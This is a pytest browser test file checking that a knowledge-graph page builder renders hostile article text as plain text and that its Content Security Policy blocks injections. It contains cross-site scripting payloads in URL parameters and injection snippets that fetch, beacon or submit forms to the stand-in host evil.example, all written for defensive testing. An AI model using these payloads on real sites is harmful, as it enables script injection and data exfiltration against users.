"""Articles that mean harm, from JSON Lines through the whole program to the page; and its policy."""

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser.hostile_words import HOSTILE
from browser.page_samples import make_actor, make_relation
from running import run

from kgraph.plover import Family

pytestmark = pytest.mark.browser

FEW = [make_relation(make_actor("Arland"), make_actor("Borland"), Family.PRESSURE)]
LONGEST_NAME = 240  # that a heading shows
ALONE = ["end of the data block", "end of the title", "template of this page", "right to left", "null"]


def build(folder: Path, articles: dict[str, str], title: str) -> Path:
    """Build the page of an article for each of the words: two sentences on an actor of that name.

    The actor is known by a plain alias from a table of our own, and shown by the hostile name.
    """
    rows, lines = [], []
    for number, words in enumerate(articles.values()):
        alias = f"Zed{chr(97 + number // 26)}{chr(97 + number % 26)}land"
        rows.append((alias, words if words.strip() else "space", "state"))
        fields = {
            "id": words,
            "title": words,
            "publisher": words,
            "url": f"https://example.org/{words}" if number % 2 else words,
            "date": "2024-03-19",
            "text": f"France condemned {alias} over {words}\n\nIran accused {alias} of delays.",
        }
        lines.append(json.dumps(fields))
    (folder / "articles.jsonl").write_text("\n".join(lines), "utf-8")
    with (folder / "actors.csv").open("w", encoding="utf-8", errors="replace", newline="") as table:
        csv.writer(table).writerows([("alias", "name", "kind"), *rows])
    ended = run(
        "build", folder / "articles.jsonl", "--actors", folder / "actors.csv",
        "-o", folder / "out", "--title", title,
    )  # fmt: skip
    assert ended.code == 0, ended.err
    return folder / "out" / "graph.html"


@pytest.fixture(scope="module")
def page_file(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("hostile"), HOSTILE, HOSTILE["end of the data block"])


def actors_of(opened) -> list[dict[str, str]]:
    return opened.page.evaluate("kgraphPage.actors.map(({ name, iri }) => ({ name, iri }))")


def quotes_of(opened) -> list[str]:
    """The first quote of each relation."""
    return opened.page.evaluate(
        "kgraphPage.relations.map((one) => one.statements[0].quotes[0].map(([text]) => text).join(''))"
    )


# What markup in a text would make, were it taken for markup; the page has these by itself, at most.
MADE = """() => ({
    elements: [...document.querySelectorAll("*")]
        .filter((one) => one.matches("script, style, link, meta, base, iframe, object, embed, img, video, "
            + "audio, form, template, marquee, math, textarea, animate, a[href^='#']"))
        .map((one) => one.tagName),
    handlers: [...document.querySelectorAll("*")]
        .flatMap((one) => [...one.attributes].map(({ name }) => name))
        .filter((name) => /^on|^srcdoc$|^xlink/.test(name)),
    links: [...document.querySelectorAll("a[href]:not(.skip)")]
        .map((one) => [one.protocol, one.rel, one.target]),
    wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
    harm: [typeof globalThis.harm, Object.keys({}).length, ({}).x],
})"""


def assert_unharmed(opened, at_first) -> None:
    made = opened.page.evaluate(MADE)
    for protocol, rel, target in made["links"]:
        assert protocol in ("http:", "https:")
        assert "noopener" in rel.split()
        assert target == "_blank"
    assert {**made, "links": []} == {**at_first, "links": []}
    assert made["handlers"] == []


def test_sixty_hostile_articles_reach_the_page_as_they_are(open_page, page_file):
    assert len(HOSTILE) >= 60
    opened = open_page(page_file)
    names = {actor["name"] for actor in actors_of(opened)}
    quotes = "\n".join(quotes_of(opened))
    # Readers put spaces and U+FFFD for controls and lone surrogates, and sentences may end early.
    assert sum(words in names for words in HOSTILE.values()) >= 60
    assert sum(words in quotes for words in HOSTILE.values()) >= 55
    assert f"{len(HOSTILE)} articles" in opened.text("#facts")


def test_every_row_and_every_panel_shows_the_words_as_words(open_page, page_file):
    opened = open_page(page_file)
    opened.page.click("#relations-table summary")
    at_first = opened.page.evaluate(MADE)
    rows = opened.page.evaluate(
        "[...document.querySelectorAll('#rows tr')].map((row) => row.dataset.relation)"
    )
    quotes, origins = quotes_of(opened), ""
    assert len(rows) == len(quotes) > 2 * 60
    for row in rows:
        quote, origin = opened.page.evaluate(
            """(row) => {
                document.querySelector(`tr[data-relation="${row}"] button`).click();
                const text = (one) => document.querySelector(`#panel ${one}`).textContent;
                return [text("blockquote"), text(".origin")];
            }""",
            row,
        )
        assert quote == quotes[int(row)]
        origins += origin
        assert_unharmed(opened, at_first)
    assert sum(words[:80] in origins for words in HOSTILE.values()) >= 60


def test_every_actor_and_every_view_kept_in_the_address_opens(open_page, page_file):
    opened = open_page(page_file)
    at_first = opened.page.evaluate(MADE)
    for actor in actors_of(opened):
        heading = opened.page.evaluate(
            """async (iri) => {
                location.hash = new URLSearchParams({ actor: iri, search: "" });
                await new Promise((done) => addEventListener("hashchange", done, { once: true }));
                return document.querySelector("#panel h2").textContent;
            }""",
            actor["iri"],
        )
        name = actor["name"]
        assert heading == (name if len(name) <= LONGEST_NAME else f"{name[: LONGEST_NAME - 1]}\u2026")
        assert_unharmed(opened, at_first)


def test_the_search_takes_any_words_and_the_address_gives_them_back(open_page, page_file):
    opened = open_page(page_file)
    at_first = opened.page.evaluate(MADE)
    found = 0
    for words in HOSTILE.values():
        typed = words.encode("utf-8", "replace").decode()[:300]
        opened.page.fill("#search", typed)
        found += not opened.text("#counts").startswith("Showing 0")
        kept = opened.page.evaluate("new URLSearchParams(location.hash.slice(1)).get('search')")
        assert (kept or "") == opened.page.input_value("#search")
        assert_unharmed(opened, at_first)
    assert found >= 60
    opened.page.fill("#search", HOSTILE["script"])
    again = open_page(page_file, address=opened.page.evaluate("location.hash"))
    assert again.page.input_value("#search") == HOSTILE["script"]
    assert again.text("#counts") == opened.text("#counts")


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("#search=%3Cimg%20src=x%20onerror=alert(1)%3E", id="markup"),
        pytest.param("#theme=%3Cscript%3E&publisher=__proto__&belief=NaN&days=x/y", id="nonsense"),
        pytest.param("#actor=javascript:alert(1)&relation=__proto__&pair=constructor%20x", id="names"),
        pytest.param("#family=__proto__&standing=toString&kind=%00&%ff=%", id="sets"),
        pytest.param("#" + "x" * 50_000, id="long"),
    ],
)
def test_a_hostile_address_does_no_harm(open_page, page_file, address):
    opened = open_page(page_file, address=address)
    assert opened.page.evaluate("document.querySelectorAll('img, #panel script').length") == 0
    assert opened.page.get_attribute("html", "data-theme") == "auto"


def test_tips_keys_and_help_say_the_words_as_words(open_page, page_file):
    opened = open_page(page_file)
    at_first = opened.page.evaluate(MADE)
    tips = set()
    for spot in opened.page.evaluate(
        """() => {
            const frame = document.getElementById("picture").getBoundingClientRect();
            return Object.values(kgraphPage.network.getPositions())
                .map((place) => kgraphPage.network.canvasToDOM(place))
                .map(({ x, y }) => [frame.left + x, frame.top + y]);
        }"""
    ):
        opened.page.mouse.move(*spot)
        tips.add(opened.page.text_content("#tip"))
    assert len(tips) > 40
    assert any("<" in tip for tip in tips)
    opened.page.focus("#picture")
    for key in ("Home", "ArrowUp", "Enter", "n", "n", "ArrowLeft", "Enter", "Escape", "Escape"):
        opened.page.keyboard.press(key)
    opened.page.click("#theme")
    assert_unharmed(opened, at_first)
    opened.page.click("#help-open")
    assert opened.page.evaluate("document.querySelectorAll('#help script, #help img').length") == 0


@pytest.mark.parametrize("kind", ALONE)
def test_a_hostile_article_alone_with_a_hostile_title(open_page, tmp_path, kind):
    words = HOSTILE[kind]
    opened = open_page(build(tmp_path, {kind: words}, words))
    assert opened.page.title() == " ".join(words.replace("\0", "\ufffd").split())
    assert opened.page.text_content("#title") == words
    assert len(opened.page.query_selector_all("script")) == 3


class Markup(HTMLParser):
    """The names of all attributes in a page's markup, and the addresses in them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value for name, value in attrs if name in ("href", "src", "action", "data")}


def test_the_file_names_no_other_place_but_articles_and_those_of_its_library(page_file):
    page = page_file.read_text("utf-8")
    markup = Markup(page)
    assert [name for name in markup.attributes if name == "style" or name.startswith("on")] == []
    assert markup.addresses == {"#relations-table", "#picture", "data:,"}
    head, rest = page.split('<script id="content" type="application/json">')
    _, library, ours = rest.split("</script>\n<script>")
    written = re.findall(r"https?://[^\s\"'`<>)\\]+", head + ours)
    assert {urlsplit(address).hostname for address in written} <= {"www.w3.org"}
    # What the library names stands in its licence and its messages: nothing of it is fetched.
    assert "XMLHttpRequest" not in library
    assert "fetch(" not in library


INJECTIONS = {
    "a script": """const made = document.createElement("script");
        made.textContent = "window.harm = 1"; document.body.append(made);""",
    "a script from elsewhere": """const made = document.createElement("script");
        made.src = "https://evil.example/x.js"; document.body.append(made);""",
    "a handler": """const made = document.createElement("div");
        made.innerHTML = "<button onclick='window.harm = 1'>x</button>";
        document.body.append(made); made.firstChild.click();""",
    "a link": """const made = document.createElement("a");
        made.href = "javascript:window.harm = 1"; document.body.append(made); made.click();""",
    "a text run as a script": """setTimeout("window.harm = 1");""",
    "a style": """const made = document.createElement("style");
        made.textContent = "body { opacity: 0 }"; document.head.append(made);""",
    "a style in an attribute": """document.body.setAttribute("style", "opacity: 0");""",
    "an image": """const made = new Image();
        made.src = "https://evil.example/x.png"; document.body.append(made);""",
    "a request": """fetch("https://evil.example/").catch(() => {});""",
    "a beacon": """navigator.sendBeacon("https://evil.example/", "x");""",
    "a frame": """const made = document.createElement("iframe");
        made.src = "https://evil.example/"; document.body.append(made);""",
    "a form": """const made = document.createElement("form");
        made.action = "https://evil.example/"; document.body.append(made); made.submit();""",
}


@pytest.mark.parametrize("kind", INJECTIONS)
def test_the_policy_stops_what_gets_into_the_page_all_the_same(open_page, kind):
    """Every text is put in as text; were one not, the policy is the second wall."""
    opened = open_page(FEW)
    opened.page.evaluate(f"() => {{ {INJECTIONS[kind]} }}")
    opened.page.wait_for_timeout(150)
    assert opened.page.evaluate("[typeof window.harm, getComputedStyle(document.body).opacity]") == [
        "undefined",
        "1",
    ]
    assert [url for url in opened.requests if "evil" in url] == []
    assert any("Content Security Policy" in complaint for complaint in opened.complaints)
    opened.complaints.clear()
